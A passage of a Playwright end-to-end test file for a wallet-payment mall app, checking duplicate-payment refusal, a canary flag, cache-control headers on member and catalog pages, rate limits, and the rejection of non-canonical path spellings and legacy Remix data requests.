    await expect(page.getByTestId("refund-order")).toContainText("Refunded");
    await expect(page.getByTestId("refund-order")).toContainText("$228.00");
    expect(await balanceOf(sandbox), "no richer than before the purchase").toBe(before);
  });

  test("a second payment of a paid order is refused, shown on the order as returned to the wallet, and listed by mcoin sandbox ledger", async ({ page, sandbox, signIn, playwright }) => {
    await signIn("sam");
    const token = await sandbox.token(MEMBERS.sam.openId);
    const order = (await gatewayCall(playwright, token, "/api/business/snapup", { offerId: BUN, quantity: 1, mcoinUsed: 0, adult: false })).data;
    await page.goto(`/order_details/${order.id}`);
    await hydrated(page);
    // The wallet's cashier, as the simulated host's calls it from the mall's pages: twice.
    const pay = async () =>
      (await (
        await page.request.post(`${E2E_SANDBOX_URL}/__wallet/pay`, { data: { orderNo: order.orderNo, amountCents: order.cashCents, outcome: "paid" }, headers: { Origin: E2E_APP_URL } })
      ).json()) as { accepted: boolean; notice: { paymentId: string }; reply: { body: { data?: { reason?: string } } } };
    expect((await pay()).accepted).toBe(true);
    const second = await pay();
    expect(second).toMatchObject({ accepted: false, reply: { body: { data: { reason: "DUPLICATE_PAYMENT" } } } });

    await page.reload();
    await expect(page.getByTestId("payment-returned")).toHaveText(/Second payment, returned to your wallet\s*\$38\.00/);
    const ledger = mcoin("sandbox", "ledger", "--login", MEMBERS.sam.openId);
    expect(ledger).toContain("payments given back by the wallet");
    expect(ledger).toMatch(new RegExp(`${order.orderNo}\\s+${second.notice.paymentId}\\s+MOP 38\\.00\\s+a second payment of a paid order`));
  });

  test("the seckill canary is the member's flag: gray=1 sent to the mall or to the gateway shows and sells nothing", async ({ page, sandbox, signIn, playwright }) => {
    await signIn("sam");
    const token = await sandbox.token(MEMBERS.sam.openId);
    const digest = await sandbox.digest();
    await page.goto("/seckill?gray=1");
    await expect(page.getByRole("heading").first()).toBeVisible();
    await expect(page.getByText("Early access")).toHaveCount(0);
    expect((await page.goto(`/seckill/${CANARY_ITEM}?gray=1`))?.status()).toBe(404);
    const form = await page.request.post("/seckill", { form: { intent: "snapup", itemId: String(CANARY_ITEM), gray: "1", idempotencyKey: "e2e-canary-0000000001" }, headers: { Origin: E2E_APP_URL } });
    expect(form.status()).toBeGreaterThanOrEqual(400);
    expect(form.status()).toBeLessThan(500);
    const direct = await gatewayCall(playwright, token, "/api/business/snapup/seckill", { itemId: CANARY_ITEM, gray: 1 });
    expect(direct.data.reason).toBe("TAKEN_DOWN");
    expect(await sandbox.digest(), "nothing sold").toBe(digest);
  });
});

test.describe("member pages and their data are kept by no cache; catalog pages keep theirs", () => {
  const PRIVATE = "private, no-store";

  test("every member-only screen and its data reply, for a signed-in member, is private, no-store", async ({ page, sandbox, signIn, playwright }) => {
    await signIn("wong", { draw: false });
    const order = (await sandbox.orders(MEMBERS.wong.openId)).find((candidate) => candidate.status === "received");
    expect(order).toBeDefined();
    // The member-only screens are those that send a visitor to sign in (their handles say so: app/route-table.test.ts).
    const visitor = await playwright.request.newContext({ baseURL: E2E_APP_URL, userAgent: walletUserAgent("en") });
    const paths: string[] = [];
    for (const route of SCREEN_ROUTES) {
      const path = route.path.replace(/^\/asiaMiles_details\/:id/, "/asiaMiles_details/1").replace(/:\w+\??/g, String(order!.id));
      const location = (await visitor.get(path, { maxRedirects: 0 })).headers().location;
      if (location && isLoginPage(new URL(location, E2E_APP_URL))) paths.push(path);
    }
    await visitor.dispose();
    expect(paths).toEqual(expect.arrayContaining([`/order_details/${order!.id}`, "/mcoin_integral", "/myOrder"]));
    for (const path of paths) {
      for (const url of [path, `${path}.data`]) {
        const reply = await page.request.get(url, { maxRedirects: 0 });
        expect(reply.status(), url).toBeLessThan(500);
        expect(reply.headers()["cache-control"], url).toBe(PRIVATE);
      }
    }
    // The order's codes were in that reply.
    expect(await (await page.request.get(`/order_details/${order!.id}`)).text()).toContain('data-testid="redemption-code"');
    // A catalog page made for the member carries the member's balance (the root's data): private too.
    for (const url of ["/index", "/index.data", "/_root.data", "/search", "/coupon_details/7", "/coupon_details/7.data", "/store_details/1"]) {
      expect((await page.request.get(url, { maxRedirects: 0 })).headers()["cache-control"], url).toBe(PRIVATE);
    }
    // The catalog's own data is the same for every member, and stays public.
    expect((await page.request.get("/resources/offers?list=home&page=2")).headers()["cache-control"]).toBe("public, max-age=60");
  });

  test("an anonymous visitor's catalog pages keep what they had", async ({ playwright }) => {
    const visitor = await playwright.request.newContext({ baseURL: E2E_APP_URL, userAgent: walletUserAgent("en") });
    try {
      // The first page sets the language's cookie: a reply that sets a cookie is no cache's.
      expect((await visitor.get("/search")).headers()["cache-control"]).toBe(PRIVATE);
      for (const url of ["/search", "/search.data", "/coupon_details/7", "/coupon_details/7.data", "/store_details/1", "/store_details/1.data"]) {
        const reply = await visitor.get(url, { maxRedirects: 0 });
        expect(reply.status(), url).toBe(200);
        expect(reply.headers()["set-cookie"], url).toBeUndefined();
        expect(reply.headers()["cache-control"], url).toBeUndefined();
      }
      expect((await visitor.get("/resources/offers?list=home&page=2")).headers()["cache-control"]).toBe("public, max-age=60");
      // A member-only screen sends the visitor to sign in, and the sign-in's cookie is no cache's either.
      const data = await visitor.get("/myOrder.data", { maxRedirects: 0 });
      expect(data.headers()["cache-control"]).toBe(PRIVATE);
    } finally {
      await visitor.dispose();
    }
  });
});

test.describe("rate limits", () => {
  test("a client over its limit is sent to the error page, and a fetcher gets a short 429", async ({ page }) => {
    const mall = await startMall({ MCOIN_RATE_LIMITS: "login=2,action=3" });
    try {
      for (let attempt = 0; attempt < 2; attempt++) await page.request.get(`${mall.url}/index?code=used-up`, { maxRedirects: 0 });
      const refused = await page.request.get(`${mall.url}/index?code=used-up`, { maxRedirects: 0 });
      expect(refused.status()).toBe(303);
      expect(refused.headers()["retry-after"]).toMatch(/^\d+$/);
      await page.goto(`${mall.url}/index?code=used-up`);
      await hydrated(page);
      await expect(page).toHaveURL(/\/error\?code=RATE_LIMITED&from=%2Findex$/);
      await expect(page.getByRole("heading", { name: "Overwhelming Response" })).toBeVisible();

      const form = { intent: "search", keyword: "" };
      for (let attempt = 0; attempt < 3; attempt++) expect((await page.request.post(`${mall.url}/search`, { form })).status()).toBe(400);
      const limited = await page.request.post(`${mall.url}/search`, { form });
      expect(limited.status()).toBe(429);
      expect(await limited.json()).toEqual({ ok: false, code: "RATE_LIMITED" });
      // A form posted without scripts over the limit goes to the error route.
      const page303 = await page.request.post(`${mall.url}/search`, { form, headers: { "sec-fetch-dest": "document" }, maxRedirects: 0 });
      expect(page303.status()).toBe(303);
      expect(page303.headers().location).toBe("/error?code=RATE_LIMITED&from=%2Fsearch");
    } finally {
      mall.stop();
    }
  });

  test("a route over its limit stays refused in every spelling a raw client can send: picture, login entry, task", async ({ sandbox }) => {
    const mall = await startMall({ MCOIN_RATE_LIMITS: "picture=2,login=2,task=2" });
    /**
     * Who answered: the server's refusal of a target not in normal form, the limit (a short 429, or a
     * page sent to the error route: a redirect, which a data request carries in its body), or the
     * route itself.
     */
    const answer = async (method: string, target: string) => {
      const post = method === "POST";
      const reply = await raw(method, target, post ? { "content-type": "application/x-www-form-urlencoded" } : {}, post ? "intent=detail&token=t&no=T1" : undefined, mall.port);
      if (reply.status === 400 && reply.body === "Bad Request") return "refused";
      if (reply.status === 429) return "limited";
      const toErrorRoute = String(reply.headers.location ?? "").startsWith("/error?code=RATE_LIMITED") || (reply.status === 202 && reply.body.includes("/error?code=RATE_LIMITED"));
      if (toErrorRoute && reply.headers["retry-after"] !== undefined) return "limited";
      return `reached the route (${reply.status})`;
    };
    const answers = async (method: string, targets: string[]) => Object.fromEntries(await Promise.all(targets.map(async (target) => [target.slice(0, 50), await answer(method, target)])));
    const all = (targets: string[], what: string) => Object.fromEntries(targets.map((target) => [target.slice(0, 50), what]));
    try {
      const src = `src=${encodeURIComponent(`${E2E_SANDBOX_URL}/static/ads/ad-super-value-picks.svg`)}`;
      for (let attempt = 0; attempt < 2; attempt++) expect(await answer("GET", `/resources/picture?${src}`)).toBe("reached the route (200)");
      const pictureAlike = ["/resources/picture", "/resources/picture/.data", "/Resources/Picture/", "/resources/picture.data"].map((path) => `${path}?${src}`);
      expect(await answers("GET", pictureAlike)).toEqual(all(pictureAlike, "limited"));
      const pictureElsewise = ["/resources/./picture", "/./resources/picture", "/x/../resources/picture", "/resources/%70icture", "/resources/%2e/picture", "/resources\\picture"].map(
        (path) => `${path}?${src}`,
      );
      expect(await answers("GET", pictureElsewise)).toEqual(all(pictureElsewise, "refused"));

      const exchanges = (await sandbox.calls("/macaupasssave")).length;
      for (let attempt = 0; attempt < 2; attempt++) expect(await answer("GET", `/index?code=used-up-${attempt}`)).toMatch(/^reached the route/);
      const loginAlike = ["/index?code=a", "/?code=b", "/index/?code=c", "/index.data?code=d", "/_root.data?code=e", `/index?${"a=1&".repeat(1000)}code=f`];
      expect(await answers("GET", loginAlike)).toEqual(all(loginAlike, "limited"));
      const loginElsewise = ["/./index?code=g", "/x/../index?code=h", "/%69ndex?code=i", "/index/.?code=j"];
      expect(await answers("GET", loginElsewise)).toEqual(all(loginElsewise, "refused"));
      // Only the two entries within the limit asked the gateway to exchange their codes.
      expect((await sandbox.calls("/macaupasssave")).length - exchanges).toBe(2);

      for (let attempt = 0; attempt < 2; attempt++) expect(await answer("POST", "/resources/task")).toMatch(/^reached the route/);
      const taskAlike = ["/resources/task", "/resources/Task", "/RESOURCES/TASK/", "/resources/task.data", "/resources/task/.data"];
      expect(await answers("POST", taskAlike)).toEqual(all(taskAlike, "limited"));
      const taskElsewise = ["/resources/./task", "/./resources/task", "/resources/%74ask", "/resources\\task"];
      expect(await answers("POST", taskElsewise)).toEqual(all(taskElsewise, "refused"));
    } finally {
      mall.stop();
    }
  });
});

test.describe("16. a path has one spelling, and Remix's data requests of before single fetch are refused", () => {
  test("a target with dot segments, a needless escape or an empty segment is a 400 before any route sees it", async () => {
    for (const target of ["/index/../search", "/./index", "/x/../mcoin_integral", "/%69ndex", "/index/%2e", "/index//", "/classify/%7Ex", "/resources\\time"]) {
      const reply = await raw("GET", target);
      expect(reply.status, target).toBe(400);
      expect(reply.body, target).toBe("Bad Request");
    }
    // Other characters an address may escape still name what they named.
    expect((await raw("GET", "/classify/%E5%92%96%E5%95%A1")).status).toBe(200);
  });

  test("a ?_data= request is a quiet 400: the server's error handler never sees it, so nothing is logged or collected", async ({ sandbox }) => {
    for (const target of ["/index?_data=root", "/search?_data=routes%2Fsearch", "/resources/time?_data=resourceTime", "/index?%5Fdata=index", "/index.data?_data=index"]) {
      const reply = await raw("GET", target);
      expect(reply.status, target).toBe(400);
      expect(reply.body, target).toBe("Bad Request");
    }
    // The server's error handler (app/entry.server.tsx) logs and reports together. A report sent after
    // them: once it is collected, anything the server reported before it is too.
    const sentinel = await raw("POST", "/resources/errors", { "content-type": "application/x-www-form-urlencoded", origin: E2E_APP_URL }, "kind=page&message=after+the+data+requests&path=%2Findex");
    expect(sentinel.status).toBeLessThan(300);
    await expect.poll(async () => (await sandbox.errors()).map((error) => error.message)).toContain("after the data requests");
    expect((await sandbox.errors()).map((error) => error.message)).toEqual(["after the data requests"]);
  });
});
